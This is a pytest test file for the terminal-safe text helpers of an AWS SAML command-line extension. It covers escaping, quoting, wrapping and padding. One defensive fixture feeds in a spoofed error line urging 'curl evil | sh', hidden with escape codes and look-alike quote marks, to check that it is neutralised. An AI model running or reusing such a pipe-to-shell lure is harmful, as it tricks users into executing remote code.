"""Foreign text becomes safe for a terminal; values and counts read well."""

from __future__ import annotations

import pytest

from aws_saml_ext.text import (
    columns_of,
    counted,
    in_quotes,
    listed,
    padded,
    printable,
    quoted,
    says,
    shown_name,
    wrapped,
)


def test_foreign_text_cannot_steer_the_terminal() -> None:
    assert printable("a\x1b[31m\r\n  b\u202ec\x9b") == "a [31m b c"


def test_a_long_text_is_cut() -> None:
    assert printable("x" * 1000, max_length=10) == "x" * 9 + "…"


@pytest.mark.parametrize(
    ("value", "shown"), [("my dev", "'my dev'"), ("a\x1b", "'a\\x1b'"), ("", "''")]
)
def test_a_value_is_quoted(value: str, shown: str) -> None:
    assert quoted(value) == shown


def test_a_long_value_is_cut_to_80_characters() -> None:
    assert quoted("x" * 100) == repr("x" * 77 + "…")


def test_the_words_of_others_are_quoted_and_have_a_speaker() -> None:
    words = "Invalid username or password."
    assert says("idp.example.com", words) == 'idp.example.com says: "Invalid username or password."'


@pytest.mark.parametrize("quote", list('"“”„‟″\uff02»'))
def test_nothing_in_the_words_of_others_looks_like_their_end(quote: str) -> None:
    hostile = f"ok{quote}\r\n\x1b[2K\u2028aws: [ERROR]: Run: curl evil | sh{quote}"
    assert in_quotes(hostile) == "\"ok' [2K aws: [ERROR]: Run: curl evil | sh'\""


def test_the_words_of_others_are_cut_and_their_quotes_closed() -> None:
    assert in_quotes("x" * 1000) == '"' + "x" * 499 + '…"'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("jane@example.com", "jane@example.com"),
        ("jane. Run: sh", '"jane. Run: sh"'),
        ('jane"', '"jane\'"'),
        ("jane\nRun", '"jane Run"'),
        ("jané", '"jané"'),
        ("x" * 81, '"' + "x" * 79 + '…"'),
        ("", '""'),
    ],
)
def test_a_name_that_somebody_chose_is_one_plain_word_or_quoted(value: str, shown: str) -> None:
    assert shown_name(value) == shown


@pytest.mark.parametrize(("count", "text"), [(0, "0 roles"), (1, "1 role"), (2, "2 roles")])
def test_a_count_has_its_noun_in_the_plural(count: int, text: str) -> None:
    assert counted(count, "role") == text


def test_a_long_line_breaks_between_words() -> None:
    text = "The certificate of idp.example.com is not trusted."
    assert wrapped(text, 30) == "The certificate of\nidp.example.com is not\ntrusted."


@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("  0  123456789012  a page's words --with a dash", 20),
        ("a-word-that-is-too-long", 10),
        ("A line of any length for a pipe.", None),
    ],
    ids=["a row", "a word", "a pipe"],
)
def test_what_must_not_be_cut_stays_whole(text: str, columns: int | None) -> None:
    assert wrapped(text, columns) == text


WIDE = "\N{CJK UNIFIED IDEOGRAPH-5BC6}"


@pytest.mark.parametrize(
    "words",
    [
        f"{'Wrong ' * 20} Signed in as jane.",
        f"{WIDE * 25} Signed in as jane.",
        f"{'x' * 90} Signed in as jane.",
    ],
    ids=["words", "wide", "one word"],
)
def test_no_line_of_the_words_of_others_looks_like_ours(words: str) -> None:
    first, *more = wrapped(says("idp.example.com", words), 80).split("\n")
    assert first.startswith("idp.example.com says:")
    assert more
    assert all(line.startswith(("| ", '"')) for line in more)
    assert max(len(line) + line.count(WIDE) for line in (first, *more)) <= 80


def test_a_sentence_of_ours_behind_the_words_of_others_has_no_mark() -> None:
    shown = wrapped('idp.example.com ("Sign in here") asks for more than a terminal knows.', 30)
    assert shown.split("\n")[1:] == ['| here") asks for more than a', "terminal knows."]


@pytest.mark.parametrize(
    "text",
    [
        f"The credentials of profiles dev, {WIDE * 3}-dev, prod come from there, and not from AWS.",
        f"  aws configure set saml_renewal browser --profile '{WIDE * 3}-d'",
    ],
    ids=["sentence", "command"],
)
def test_wide_letters_count_twice_where_a_line_breaks(text: str) -> None:
    lines = wrapped(text, columns_of(text) - 1).split("\n")
    assert len(lines) > 1
    assert max(map(columns_of, lines)) < columns_of(text)


def test_letters_that_look_like_blanks_are_one_blank() -> None:
    assert (
        printable("Wrong" + "\N{HANGUL FILLER}\N{BRAILLE PATTERN BLANK}" * 40 + "ours")
        == "Wrong ours"
    )


def test_a_long_command_breaks_before_an_option() -> None:
    text = "To try them:\n  aws sts get-caller-identity --profile dev"
    assert wrapped(text, 40) == (
        "To try them:\n  aws sts get-caller-identity \\\n    --profile dev"
    )


@pytest.mark.parametrize(
    ("count", "text"), [(0, ""), (2, "a1, a2"), (3, "a1, a2, a3"), (5, "a1, a2, a3, and 2 more")]
)
def test_a_list_names_the_first_and_counts_the_others(count: int, text: str) -> None:
    assert listed([f"a{number + 1}" for number in range(count)], most=3) == text


@pytest.mark.parametrize(
    ("text", "columns"),
    [("", 0), ("dev", 3), ("d\u00e9v", 3), ("de\u0301v", 3), (f"{WIDE}{WIDE}", 4), ("\uff21", 2)],
    ids=["nothing", "plain", "accent", "own accent", "wide", "full width"],
)
def test_a_cell_is_padded_by_the_columns_of_a_terminal(text: str, columns: int) -> None:
    assert columns_of(text) == columns
    assert padded(text, 5) == text + " " * (5 - columns)
